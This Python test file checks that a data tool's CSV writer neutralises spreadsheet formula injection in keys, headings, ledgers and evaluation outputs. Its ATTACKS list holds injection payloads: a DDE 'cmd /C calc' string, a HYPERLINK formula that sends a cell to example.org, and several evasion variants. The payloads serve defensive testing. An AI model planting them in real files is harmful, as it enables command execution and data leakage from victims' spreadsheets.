"""Keys and names that a spreadsheet would take for formulas when it opens what gedp writes."""

import csv
import io
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.csv
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from gedp.csvfiles import guarded, read_rows, unguarded, write_csv, write_rows
from gedp.release import read_release
from tests.helpers.runs import gedp as command
from tests.helpers.runs import small_table, write_case

NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?", re.ASCII)
ATTACKS = [
    '=HYPERLINK("http://example.org?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "harmless;=1+1;",
    "harmless\n=1+1",
    "'=1+1",
    "＝1+1",
]
texts = st.one_of(st.text(), st.text("'=+-@\t\r\n; 5.e＝a", max_size=8), st.sampled_from(ATTACKS))


def is_formula(cell: str) -> bool:
    """As a spreadsheet decides: a plain number is none; spaces, tabs and line breaks before it do not help."""
    return (cell.strip()[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")) and not NUMBER.fullmatch(cell)


def cells_of(text: str) -> list[str]:
    """What a spreadsheet sees of a file, be its separator a comma, or a semicolon or tab, which ignores our quotes."""
    seen = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return seen + [part for cell in seen for part in re.split("[;\t\r\n]", cell)[1:]]


def require_harmless(text: str) -> None:
    formulas = [cell for cell in cells_of(text) if cell and is_formula(cell)]
    assert formulas == []


@given(texts)
@example("-5")
@example("'-5")
@example("''=x")
@example("a;'=x")
def test_the_guard_comes_off_again_and_keeps_texts_apart(text: str) -> None:
    assert unguarded(guarded(text)) == text
    cell = guarded(text)
    assert not is_formula(cell)
    assert not any(is_formula(part) for part in re.split("[;\t\r\n]", cell)[1:] if not NUMBER.fullmatch(part))
    if text.isprintable() and not is_formula(text) and not re.search("[;\t\r\n]", text) and not text.startswith("'"):
        assert cell == text


@given(st.lists(st.one_of(st.none(), texts)), st.sampled_from([pa.string(), pa.large_string()]), st.booleans())
def test_a_column_is_guarded_text_by_text(values: list[str | None], kind: pa.DataType, encoded: bool) -> None:
    column = pa.chunked_array([pa.array(values, kind), pa.array(values[:2], kind)], kind)
    file = io.BytesIO()
    write_csv(pa.table({"=name": column.dictionary_encode() if encoded else column, "n": [-1] * len(column)}), file)
    expected = io.BytesIO()
    made = [None if value is None else guarded(value) for value in [*values, *values[:2]]]
    pa.csv.write_csv(pa.table({"'=name": pa.array(made, kind), "n": [-1] * len(column)}), expected)
    assert file.getvalue() == expected.getvalue()


@given(st.dictionaries(texts, texts))
def test_maps_are_read_as_they_were_written(groups: dict[str, str]) -> None:
    file = io.StringIO(newline="")
    write_rows(groups.items(), file)
    require_harmless(file.getvalue())
    assert dict(read_rows(io.StringIO(file.getvalue(), newline=""))) == groups


@pytest.mark.usefixtures("no_disk_waits")
def test_no_file_for_people_holds_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Keys, groups, headings and names of attributes: in the release, in tables, in the ledger, in an evaluation."""
    monkeypatch.setenv("LOGNAME", '=HYPERLINK("http://example.org")')  # goes into the ledger as who it was
    table = small_table(len(ATTACKS) * 20)
    table = table.set_column(1, "cnty", pa.array([ATTACKS[i % len(ATTACKS)] for i in range(table.num_rows)]))
    table = table.rename_columns([{"naics": "@naics", "emp": "=emp"}.get(name, name) for name in table.column_names])
    grouped = 'grouped = { column = "cnty", map = "map.csv" }'
    write_case(
        tmp_path,
        ('"naics"', '"@naics"'),
        ("naics2 = {", f"{grouped}\nnaics2 = {{"),
        ("emp =", '"=emp" ='),
        ('by = "establishment"', 'by = ["grouped", "cnty", "@naics"]'),
        ('name = "identity"', 'name = "finest"'),
        table=table,
    )
    with (tmp_path / "map.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows((code, f"={code}") for code in ATTACKS)
    for line in (
        ("run", "spec.toml"),
        ("tabulate", "out", "--by", "cnty,@naics", "--out", "table.csv"),
        ("ledger", "export", "t.parquet.ledger", "--out", "ledger.csv"),
        ("evaluate", "out", "--truth", "t.parquet", "--out", "results"),
    ):
        ended = command(*line, folder=tmp_path)
        assert ended.code == 0, (line, ended.err)
    written = sorted({*tmp_path.rglob("*.csv")} - {tmp_path / "map.csv"})
    assert len(written) >= 6
    for path in written:
        with path.open(encoding="utf-8", newline="") as file:
            require_harmless(file.read())
    assert "=HYPERLINK" in (tmp_path / "ledger.csv").read_text(encoding="utf-8")
    release = read_release(tmp_path / "out")
    assert release.map("grouped") == {code: f"={code}" for code in ATTACKS}
    assert set(release.answers("finest")["cnty"].to_pylist()) == set(ATTACKS)  # Parquet is as it was
